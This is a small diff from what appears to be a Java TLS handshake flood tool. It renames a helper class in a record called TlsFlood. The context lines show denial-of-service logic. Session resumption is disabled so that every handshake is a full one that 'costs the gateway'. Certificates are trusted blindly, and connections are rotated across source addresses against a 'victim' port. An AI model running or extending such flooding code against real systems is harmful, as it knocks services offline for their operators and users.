@@ -27,7 +27,7 @@ record TlsFlood(List<InetAddress> addresses, int connections, String protocol, A
 
     @Override
     public void run(Victim victim, Progress progress) throws IOException {
-        SSLContext context = Tls.trustingAnybody();
+        SSLContext context = TlsClient.trustingAnybody();
         // Each handshake is a whole one: that is what costs the gateway.
         context.getClientSessionContext().setSessionTimeout(1);
         var turn = new AtomicInteger();
@@ -47,7 +47,7 @@ record TlsFlood(List<InetAddress> addresses, int connections, String protocol, A
 
     private void attack(SSLContext context, InetAddress from, Victim victim, Progress progress) {
         progress.count();
-        try (SSLSocket socket = Tls.connect(context, from, victim.port(), protocol)) {
+        try (SSLSocket socket = TlsClient.connect(context, from, victim.port(), protocol)) {
             act.perform(socket, progress);
         } catch (IOException e) {
             // Closed by the gateway, as it may do.
